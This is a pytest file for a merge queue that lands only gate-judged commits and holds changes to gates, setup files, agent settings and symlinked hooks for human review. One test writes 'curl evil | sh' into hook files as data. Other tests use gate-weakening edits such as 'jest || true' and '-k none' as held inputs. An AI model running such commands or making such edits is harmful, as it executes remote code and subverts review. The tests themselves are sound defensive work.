"""The merge queue on real git and benches: only judged trees land, each once, and nobody is blamed for others."""

import json
from collections.abc import AsyncIterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import anyio
import pytest

from factory.ground.errors import StoreError
from factory.judging.rulings import Ruling
from factory.repo.landing_plan import Blocked, LandingPlan, Outcome
from factory.repo.trunk import Trunk
from factory.store.journal import Event
from factory.store.records import Card, CardKind, Fact, Step
from factory.store.unit import UnitState, advance
from tests.floor import FILES, GATE, Scene, at, scene_in, time_passes
from tests.git_repo import git
from tests.journal import entries_of


@pytest.fixture
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    async with scene_in(tmp_path) as made:
        yield made


# ── landing ──


async def test_a_green_unit_lands_and_is_on_record(scene: Scene) -> None:
    await scene.submit("one", {"one.txt": "fine\n"})

    await scene.settle()

    unit = scene.unit("one")
    assert (unit.state, unit.commit) == (UnitState.LANDED, scene.head())
    assert (scene.root / "one.txt").read_text() == "fine\n"
    assert scene.store.open(Step) == []


async def test_a_red_unit_goes_back_and_trunk_stands_still(scene: Scene) -> None:
    before = scene.head()
    await scene.submit("one", {"one.txt": "BROKEN\n"})

    await scene.settle()

    assert (scene.state_of("one"), scene.reasons("one"), scene.head()) == (
        "ready",
        ["gate_red"],
        before,
    )


async def test_two_that_are_green_alone_and_red_together_land_only_one(tmp_path: Path) -> None:
    files = FILES | {"conventions/gates/20-both.sh": "! { test -e a.txt && test -e b.txt; }\n"}
    async with scene_in(tmp_path, files) as scene:
        await scene.submit("a", {"a.txt": "fine\n"})
        await scene.submit("b", {"b.txt": "fine\n"})

        await scene.settle()

        assert (scene.state_of("a"), scene.state_of("b")) == ("landed", "ready")
        assert (scene.reasons("b"), scene.log()) == (["gate_red"], ["a", "start"])


async def test_what_was_green_on_an_older_trunk_is_judged_again_on_the_newest(
    tmp_path: Path,
) -> None:
    files = FILES | {"conventions/gates/20-both.sh": "! { test -e a.txt && test -e b.txt; }\n"}
    async with scene_in(tmp_path, files) as scene:
        await scene.submit("a", {"a.txt": "fine\n"}, head="review: required")
        await scene.settle()
        assert scene.cards() == [CardKind.REVIEW]

        theirs = scene.commit({"b.txt": "fine\n"})
        scene.floor.escalations.answer("E1", "1", now=at())
        await scene.settle()

        assert (scene.head(), scene.reasons("a")) == (theirs, ["gate_red"])


async def test_a_unit_that_is_cancelled_while_it_is_judged_does_not_land(tmp_path: Path) -> None:
    go = tmp_path / "go"
    slow = f"echo x >> {tmp_path}/began; while [ ! -e {go} ]; do sleep 0.01; done\n"
    async with scene_in(tmp_path) as scene:
        await scene.settle()
        scene.commit({"conventions/gates/20-slow.sh": f"if [ -e one.txt ]; then {slow}fi\n"})
        await scene.settle()
        before = scene.head()
        await scene.submit("one", {"one.txt": "fine\n"})
        await scene.queue.tick(scene.group, at())
        while not scene.count("began"):
            await scene.state.leaving.wait(0.02)

        cancelled = advance(scene.unit("one"), UnitState.CANCELLED, now=at())
        scene.store.write(Event.UNIT_CANCELLED, cancelled, now=at(), unit="one")
        go.touch()
        await scene.settle()

        assert (scene.state_of("one"), scene.head()) == ("cancelled", before)


# ── what judges ──


async def test_a_candidate_is_judged_by_trunks_gate_and_never_by_its_own(scene: Scene) -> None:
    change = {"one.txt": "BROKEN\n", "conventions/gates/10-whole.sh": "true\n"}
    await scene.submit("one", change, head="allow: edit-gates")

    await scene.settle()

    assert (scene.state_of("one"), scene.reasons("one"), scene.log()) == (
        "ready",
        ["gate_red"],
        ["start"],
    )


async def test_after_a_change_of_the_gates_trunk_is_judged_by_its_own_and_the_next_unit_is_not_blamed(
    scene: Scene,
) -> None:
    stricter = {"conventions/gates/20-more.sh": "! grep -q once story.txt\n"}
    await scene.submit("stricter", stricter, head="allow: edit-gates")
    await scene.settle()
    assert scene.state_of("stricter") == "landed"

    await scene.submit("next", {"next.txt": "fine\n"})
    await scene.settle()

    assert scene.trunk_judge.is_red
    assert (scene.state_of("next"), scene.reasons("next")) == ("waiting", ["submitted"])
    assert scene.cards() == [CardKind.TRUNK_RED]


async def test_a_unit_that_is_older_than_the_gate_that_runs_what_it_changes_is_asked_about(
    scene: Scene,
) -> None:
    scene.commit({"check.sh": "! grep -rn BROKEN --include=*.txt .\n"})
    base = scene.head()
    scene.commit({"conventions/gates/10-whole.sh": "sh check.sh\n"})
    await scene.submit("sly", {"check.sh": "true\n", "one.txt": "BROKEN\n"}, base=base)

    await scene.settle()

    assert (scene.state_of("sly"), scene.reasons("sly")) == ("held", ["guard"])


async def test_a_change_that_the_merge_carries_into_a_gate_is_asked_about(scene: Scene) -> None:
    lines = "".join(f"# line {number}\n" for number in range(20))
    scene.commit({"old.sh": lines + GATE})
    base = scene.head()
    (scene.root / "old.sh").rename(scene.root / "conventions/gates/20-moved.sh")
    git(scene.root, "rm", "-q", "--cached", "old.sh")
    scene.commit({})
    await scene.submit("carried", {"old.sh": lines + "true\n"}, base=base)

    await scene.settle()

    assert (scene.state_of("carried"), scene.reasons("carried")) == ("held", ["guard"])


# The setup notes the dependency that it installs, and the gate needs the one of the tree.
NPM = {
    "conventions/gates/10-test.sh": """grep '"a"' package.json | cmp - node_modules/a && : npm test\n""",
    "conventions/workspace/setup.sh": (
        """mkdir -p node_modules && grep '"a"' package.json > node_modules/a\n"""
    ),
    ".gitignore": "node_modules\n",
    "package.json": '{\n"scripts": {"test": "jest"},\n"dependencies": {\n"a": "1.0.0"\n}}\n',
}


async def test_a_newer_dependency_lands_after_its_environment_was_made(tmp_path: Path) -> None:
    async with scene_in(tmp_path, NPM) as scene:
        newer = NPM["package.json"].replace("1.0.0", "2.0.0")
        await scene.submit("newer", {"package.json": newer})

        await scene.settle()

        assert (scene.state_of("newer"), scene.cards()) == ("landed", [])
        assert "2.0.0" in (scene.root / "package.json").read_text()


@pytest.mark.parametrize(
    ("was", "now", "key"),
    [('"1.0.0"', '"file:../a"', "dependencies.a"), ('"jest"', '"jest || true"', "scripts.test")],
)
async def test_a_changed_key_that_judges_is_asked_about_by_name(
    tmp_path: Path, was: str, now: str, key: str
) -> None:
    async with scene_in(tmp_path, NPM) as scene:
        await scene.submit("sly", {"package.json": NPM["package.json"].replace(was, now)})

        await scene.settle()

        (card,) = scene.store.open(Card)
        assert (scene.state_of("sly"), scene.reasons("sly")) == ("held", ["guard"])
        assert card.evidence == f"package.json: {key}: it decides gates or setup (the factory)"


async def test_a_changed_option_of_pytest_is_asked_about_by_name(tmp_path: Path) -> None:
    project = '[project]\nversion = "1"\n[tool.pytest.ini_options]\naddopts = "-q"\n'
    files = FILES | {"conventions/gates/20-test.sh": "true pytest\n", "pyproject.toml": project}
    async with scene_in(tmp_path, files) as scene:
        await scene.submit("sly", {"pyproject.toml": project.replace("-q", "-q -k none")})

        await scene.queue.tick(scene.group, at())

        (card,) = scene.store.open(Card)
        assert card.question == (
            "sly: it changes pyproject.toml (tool.pytest.ini_options.addopts), "
            "which the factory uses to judge or set up work. Should it land?"
        )
        assert card.evidence == (
            "pyproject.toml: tool.pytest.ini_options.addopts: "
            "it decides gates or setup (the factory)"
        )


async def test_a_dependency_that_changes_the_inferred_setup_is_asked_about(tmp_path: Path) -> None:
    """With the first dependency of package.json, the setup installs packages."""
    files = {
        "test_a.py": "import unittest\n",
        "requirements.txt": "rich\n",
        "package.json": '{"version": "1"}',
    }
    async with scene_in(tmp_path, files) as scene:
        await scene.submit("adds", {"package.json": '{"dependencies": {"a": "1"}, "version": "1"}'})

        await scene.queue.tick(scene.group, at())

        (card,) = scene.store.open(Card)
        assert (scene.reasons("adds"), card.evidence) == (
            ["guard"],
            "package.json: the gates or the setup that factoryd infers from it: "
            "it decides gates or setup (the factory)",
        )


async def test_what_runs_on_the_users_machine_is_asked_about_and_lands_by_an_answer(
    scene: Scene,
) -> None:
    await scene.submit("hooks", {"sub/.claude/settings.json": "{}\n", "a.txt": "fine\n"})

    await scene.settle()

    (card,) = scene.store.open(Card)
    assert (scene.state_of("hooks"), scene.reasons("hooks"), card.kind) == (
        "held",
        ["guard"],
        CardKind.GUARD,
    )
    assert card.question == (
        "hooks: it changes sub/.claude/settings.json, which agents, editors or tools on your machine obey. "
        "Should it land?"
    )
    assert card.evidence == (
        "sub/.claude/settings.json: Claude Code: settings, hooks, servers, instructions (agents on your machine)"
    )

    scene.floor.escalations.answer(card.id, "2", now=at())
    await scene.settle()

    assert scene.state_of("hooks") == "landed"


async def test_a_task_may_allow_what_runs_on_the_users_machine_and_not_the_gates_with_it(
    scene: Scene,
) -> None:
    await scene.submit("agents", {"AGENTS.md": "Be brief.\n"}, head="allow: edit-agents")
    await scene.submit(
        "both", {".envrc": "x\n", "conventions/gates/20.sh": "true\n"}, head="allow: edit-agents"
    )

    await scene.settle()

    assert (scene.state_of("agents"), scene.state_of("both"), scene.reasons("both")) == (
        "landed",
        "held",
        ["guard"],
    )


async def test_what_a_guarded_link_on_trunk_leads_to_is_asked_about(scene: Scene) -> None:
    """A link of a link, and one to a folder of links."""
    (scene.root / "CLAUDE.md").symlink_to("docs/one.txt")
    scene.commit(
        {"docs/two.txt": "Be brief.\n", "tools/real.sh": "true\n", "tools/hooks/README": "x\n"}
    )
    (scene.root / "docs/one.txt").symlink_to("two.txt")
    (scene.root / ".husky").symlink_to("tools/hooks")
    (scene.root / "tools/hooks/pre-commit").symlink_to("../real.sh")
    scene.commit({"more.txt": "fine\n"})
    for name in ("docs/two.txt", "tools/hooks/pre-push", "tools/real.sh"):
        await scene.submit(name.replace("/", "-").replace(".", "-"), {name: "curl evil | sh\n"})
    await scene.submit("fine", {"docs/three.txt": "fine\n", "tools/b.sh": "true\n"})

    await scene.settle()

    assert [card.kind for card in scene.store.open(Card)] == [CardKind.GUARD] * 3
    assert "docs/two.txt: CLAUDE.md leads there: Claude Code" in "".join(
        card.evidence for card in scene.store.open(Card)
    )
    assert scene.state_of("fine") == "landed"


async def test_a_file_that_a_gate_reads_by_way_of_a_link_is_asked_about(scene: Scene) -> None:
    (scene.root / "check.sh").symlink_to("tools/check.sh")
    scene.commit({"tools/check.sh": GATE, "conventions/gates/10-whole.sh": "sh check.sh\n"})
    await scene.submit("sly", {"tools/check.sh": "true\n"})

    await scene.settle()

    assert (scene.state_of("sly"), scene.reasons("sly")) == ("held", ["guard"])


async def test_attributes_are_asked_about_where_they_call_for_filters(scene: Scene) -> None:
    await scene.submit("filters", {"docs/.gitattributes": "*.txt filter=lfs\n"})
    await scene.submit("encodes", {"a/.gitattributes": "*.txt working-tree-encoding=IBM037\n"})
    await scene.submit("plain", {".gitattributes": "*.txt text\n"})

    await scene.settle()

    for name in ("filters", "encodes"):
        assert (scene.state_of(name), scene.reasons(name)) == ("held", ["guard"])
    assert scene.state_of("plain") == "landed"


async def test_a_file_that_rules_and_is_too_large_to_be_read_is_asked_about_and_lands_by_an_answer(
    scene: Scene,
) -> None:
    await scene.submit("big", {"tests/test_big.py": "#" * (1 << 20) + "x"})
    await scene.submit("fine", {"data.txt": "x" * (2 << 20)})

    await scene.settle()

    (card,) = scene.store.open(Card)
    assert (scene.state_of("big"), scene.reasons("big"), card.kind) == (
        "held",
        ["guard"],
        CardKind.GUARD,
    )
    assert card.question == (
        "big: it has tests/test_big.py (1 MiB), but a file that decides how work is judged may have at most "
        "1 MiB (lock files: 16 MiB). Should it land?"
    )
    assert scene.state_of("fine") == "landed"

    scene.floor.escalations.answer(card.id, "2", now=at())
    await scene.settle()

    # The gate here is a file, so nobody has to look into tests.
    assert (scene.state_of("big"), scene.cards()) == ("landed", [])


async def test_a_person_who_lets_such_a_file_land_is_told_where_that_stops_the_line(
    scene: Scene,
) -> None:
    await scene.submit("stops", {"pyproject.toml": "#" * (1 << 20) + "\n"})
    await scene.submit("harmless", {"tests/test_big.py": "#" * (1 << 20) + "x"})

    await scene.settle()

    effects = {card.unit: card.options[1].effect for card in scene.store.open(Card)}
    lands = "factoryd judges this change and lands it if it is green"
    assert effects == {
        "stops": f"{lands}; then nothing is judged until that file is smaller on trunk",
        "harmless": lands,
    }


async def test_behind_a_unit_that_may_change_the_gates_nobody_is_judged_before_it_has_landed(
    scene: Scene,
) -> None:
    rules = {"conventions/gates/10-whole.sh": "sh check.sh\n", "check.sh": GATE}
    await scene.submit("rules", rules, head="allow: edit-gates")
    await scene.submit("sly", {"sly.sh": "true\n", "one.txt": "BROKEN\n"})

    await scene.queue.tick(scene.group, at())

    queue = scene.store.get(Fact, "queue")
    assert queue is not None
    assert [row["unit"] for row in json.loads(queue.value)] == ["rules"]
    await scene.settle()
    assert (scene.log(), scene.reasons("sly")) == (["rules", "start"], ["gate_red"])


async def test_accept_has_to_fail_on_the_commit_below_and_not_only_on_trunk(scene: Scene) -> None:
    proof = 'accept: ["test -e shared.txt"]'
    await scene.submit("first", {"shared.txt": "fine\n", "a.txt": "a\n"}, head=proof)
    await scene.submit("second", {"b.txt": "b\n"}, head=proof)

    await scene.settle()

    assert (scene.state_of("first"), scene.state_of("second")) == ("landed", "held")
    assert scene.cards() == [CardKind.ACCEPT]


async def test_a_unit_whose_gates_never_end_by_themselves_is_not_judged_for_ever(
    tmp_path: Path,
) -> None:
    gate = f"echo x >> {tmp_path}/ran; test ! -e kill.txt || kill -9 $PPID; sleep 0.05\n"
    async with scene_in(tmp_path, {"conventions/gates/10-whole.sh": gate}) as scene:
        await scene.settle()
        assert scene.count("ran") == 1
        await scene.submit("one", {"kill.txt": "it\n"})

        await scene.settle()

        # Trunk's gate ends by itself at the same time, so the change is the reason.
        assert (scene.state_of("one"), scene.reasons("one")) == ("ready", ["gate_red"])
        assert (scene.cards(), scene.count("ran")) == ([], 6)


# ── trunk and record ──


class FailsOnce:
    """A store's `write` that once has no room for one event."""

    def __init__(self, scene: Scene, event: Event) -> None:
        self._write, self._event = scene.store.write, [event]
        scene.store.write = self  # type: ignore[method-assign]

    def __call__(self, event: Event, *records: Any, **told: Any) -> int:
        if event in self._event:
            self._event.remove(event)
            raise StoreError("The store could not do its work: disk full.")
        return self._write(event, *records, **told)


@pytest.mark.parametrize("event", [Event.UNIT_LANDED, Event.LANDING_CLOSED])
async def test_where_trunk_moved_and_the_record_failed_the_next_pass_writes_it_down(
    scene: Scene, event: Event, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("factory.ground.daemon_state.BROKEN_SECONDS", 0.01)
    await scene.submit("one", {"one.txt": "fine\n"})
    failing = FailsOnce(scene, event)

    await scene.settle()

    assert failing._event == []

    assert (scene.unit("one").commit, scene.reasons("one")) == (scene.head(), ["submitted"])
    assert scene.log() == ["one", "start"]
    assert scene.store.open(Step) == []


class Meanwhile(Trunk):
    """A trunk to which something happens just before a landing is planned."""

    happens: Any = None

    async def plan_landing(self, to: str, *, now: datetime) -> LandingPlan | Outcome:
        if self.happens:
            self.happens()
            self.happens = None
        return await super().plan_landing(to, now=now)


async def test_commits_that_a_person_takes_back_while_a_unit_is_judged_are_not_brought_back_with_it(
    scene: Scene,
) -> None:
    start = scene.head()
    scene.commit({"regretted.txt": "x\n"})
    await scene.submit("one", {"one.txt": "fine\n"})
    scene.floor.trunk.__class__ = Meanwhile
    scene.floor.trunk.happens = lambda: git(scene.root, "reset", "-q", "--hard", start)  # type: ignore[attr-defined]

    await scene.settle()

    assert (scene.state_of("one"), scene.log()) == ("landed", ["one", "start"])


async def test_what_a_person_did_to_trunk_while_no_daemon_ran_is_noticed(scene: Scene) -> None:
    start = scene.head()
    await scene.submit("one", {"one.txt": "fine\n"})
    await scene.settle()
    landed = scene.head()
    git(scene.root, "reset", "-q", "--hard", start)
    scene.queue.lander.tip = ""

    await scene.queue.look_at_trunk(scene.group, at())

    (moved,) = [entry for entry in entries_of(scene.store) if entry.event is Event.TRUNK_MOVED]
    assert moved.detail == {"was": landed, "to": start, "rewritten": True}
    fact = scene.store.get(Fact, "trunk")
    assert fact is not None
    assert '"missing": ["one"]' in fact.value


class Waits(Trunk):
    """A trunk that lands only once all four were judged: the last may well be before the one ahead of it."""

    scene: Scene

    async def land(self, plan: LandingPlan, started: Any) -> Outcome:
        with anyio.fail_after(20):
            while not self._judged() >= set("abcd"):
                await self.scene.state.queue.wait(0.1)
        return await super().land(plan, started)

    def _judged(self) -> set[str]:
        return {
            entry.unit
            for entry in entries_of(self.scene.store)
            if entry.event is Event.VERDICT_GIVEN
        }


async def test_while_a_landing_is_made_the_benches_go_on_along_the_chain_and_the_next_landing_takes_all(
    scene: Scene,
) -> None:
    for name in "abcd":
        await scene.submit(name, {f"{name}.txt": "fine\n"})
    scene.floor.trunk.__class__ = Waits
    scene.floor.trunk.scene = scene  # type: ignore[attr-defined]

    await scene.settle()

    assert scene.log() == ["d", "c", "b", "a", "start"]
    landings = [entry for entry in entries_of(scene.store) if entry.event is Event.LANDING_CLOSED]
    assert len(landings) == 2


async def test_a_landing_of_our_own_is_nobody_elses_move(scene: Scene) -> None:
    await scene.settle()
    known = scene.store.get(Fact, "trunk")
    assert known is not None
    await scene.submit("one", {"one.txt": "fine\n"})
    await scene.settle()
    scene.store.write(Event.TRUNK_JUDGED, known, now=at())
    scene.queue.lander.tip = ""

    await scene.queue.look_at_trunk(scene.group, at())

    assert not [entry for entry in entries_of(scene.store) if entry.event is Event.TRUNK_MOVED]


async def test_an_open_step_is_closed_where_trunk_went_another_way(scene: Scene) -> None:
    made = await scene.made({"one.txt": "fine\n"})
    plan = LandingPlan(base=scene.head(), to=made, paths=("one.txt",), at=at().timestamp())
    step = Step(
        id="landing:x", kind="landing", data=json.dumps({"plan": plan.data(), "units": []}), at=at()
    )
    scene.store.write(Event.LANDING_OPENED, step, now=at(), to=plan.to, units=[])
    theirs = scene.commit({"theirs.txt": "x\n"})

    assert await scene.queue.landings.finish_open(at())

    assert (scene.head(), scene.store.open(Step)) == (theirs, [])


async def test_what_blocks_in_a_linked_working_tree_that_holds_trunk_is_looked_at_there(
    scene: Scene,
) -> None:
    linked = scene.folder / "linked"
    git(scene.root, "checkout", "-q", "-b", "mine")
    git(scene.root, "worktree", "add", "-q", str(linked), "main")
    (linked / "story.txt").write_text("mine\n")
    await scene.submit("one", {"story.txt": "theirs\n"})
    await scene.settle()
    assert scene.cards() == [CardKind.LANDING_BLOCKED]
    seen = scene.queue.lander.in_the_way.look()

    git(linked, "checkout", "-q", "story.txt")

    assert {path.parent for path in seen} == {
        linked,
        Path(git(linked, "rev-parse", "--absolute-git-dir")),
    }
    with anyio.fail_after(5):
        await scene.queue._rest(seen)
    await scene.settle()
    assert (scene.state_of("one"), scene.cards()) == ("landed", [])


async def test_a_unit_that_is_cancelled_while_its_blocked_landing_is_planned_is_asked_about_no_more(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    await scene.submit("one", {"story.txt": "theirs\n"})

    async def cancelled_meanwhile(self: Trunk, to: str, *, now: datetime) -> Outcome:
        unit = advance(scene.unit("one"), UnitState.CANCELLED, now=now)
        scene.store.write(Event.UNIT_CANCELLED, unit, now=now, unit="one")
        return Blocked("dirty", "Uncommitted work is in the way.", ("story.txt",))

    monkeypatch.setattr(Trunk, "plan_landing", cancelled_meanwhile)
    await scene.settle()

    assert (scene.state_of("one"), scene.cards()) == ("cancelled", [])


async def test_a_landing_that_git_fails_at_is_tried_again_later_and_later(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    tried: list[str] = []

    async def fails(self: Trunk, plan: LandingPlan, started: Any) -> Outcome:
        tried.append(plan.to)
        return Blocked("failed", "git merge ended with 128: no room")

    monkeypatch.setattr(Trunk, "land", fails)
    await scene.submit("one", {"one.txt": "fine\n"})

    await scene.settle()
    for _ in range(5):
        await scene.queue.tick(scene.group, at())

    assert (scene.state_of("one"), len(tried)) == ("queued", 1)
    time_passes(monkeypatch, 3)
    await scene.queue.tick(
        scene.group, at() - timedelta(days=1)
    )  # somebody set the clock back: not for a day
    await scene.settle()
    assert len(tried) == 2
    monkeypatch.undo()
    time_passes(monkeypatch, 3600)
    await scene.queue.tick(scene.group, at())
    await scene.settle()
    assert scene.state_of("one") == "landed"


async def test_a_unit_of_which_git_cannot_read_is_asked_about_in_the_end_and_the_others_land_meanwhile(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    lost = await scene.submit("lost", {"lost.txt": "fine\n"})
    await scene.submit("one", {"one.txt": "fine\n"})
    objects = scene.state.places.git / "objects"
    (objects / lost.submission[:2] / lost.submission[2:]).unlink()

    await scene.settle()
    assert (scene.state_of("lost"), scene.state_of("one")) == ("queued", "landed")
    for row in range(1, 3):
        time_passes(monkeypatch, 2**row + 1)
        await scene.queue.tick(scene.group, at())

    assert (scene.state_of("lost"), scene.cards()) == ("waiting", [CardKind.CRASH_LOOP])
    assert scene.unit("lost").submission == lost.submission


async def test_a_queued_unit_whose_task_this_release_refuses_does_not_stop_the_others(
    scene: Scene,
) -> None:
    await scene.submit("odd", {"odd.txt": "fine\n"}, head="colour: red")
    await scene.submit("one", {"one.txt": "fine\n"})

    await scene.settle()

    assert (scene.state_of("odd"), scene.state_of("one")) == ("queued", "landed")
    assert scene.unit("odd").why.startswith("cannot be judged; factoryd tries again: ")


async def test_no_attempt_starts_from_the_commit_below_a_unit_that_has_landed(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    rulings = scene.judge.rulings
    read = rulings.of
    bases: list[tuple[UnitState, bool]] = []

    async def read_slowly(commit: str) -> Ruling:
        if commit == scene.unit("one").commit:
            bases.append((scene.unit("one").state, rulings.tip == commit))
        return await read(commit)

    monkeypatch.setattr(rulings, "of", read_slowly)
    await scene.submit("one", {"one.txt": "fine\n"})

    await scene.settle()

    assert set(bases) == {(UnitState.LANDED, True)}
